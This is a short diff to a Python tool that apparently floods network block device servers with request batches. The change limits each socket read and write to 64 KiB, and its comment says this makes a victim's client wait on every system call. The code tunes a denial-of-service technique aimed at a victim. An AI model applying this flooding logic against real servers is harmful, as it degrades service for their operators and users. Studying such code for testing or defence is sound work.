@@ -14,6 +14,8 @@ from .wire import CACHE, FLUSH, FUA, NO_HOLE, READ, REQ_ONE, STATUS, TRIM, WRITE
 
 MIB = 1 << 20
 SIZE = 1024 * MIB
+# Bytes of one system call: on two processors a victim's client waits for as long as one takes.
+CALL = 64 << 10
 ATTACKS = {}
 
 
@@ -40,12 +42,12 @@ def pour(sockets, batch):
         readable, writable, _ = select.select(list(out), list(out), [], 1)
         for s in set(readable) | set(writable):
             try:
-                if s in readable and not s.recv(1 << 20):
+                if s in readable and not s.recv(CALL):
                     out.pop(s)
                     continue
                 if s in writable and s in out:
-                    out[s] = out[s] or batch()
-                    out[s] = out[s][s.send(out[s]):]
+                    out[s] = out[s] or memoryview(batch())
+                    out[s] = out[s][s.send(out[s][:CALL]):]
             except BlockingIOError:
                 pass
             except OSError:
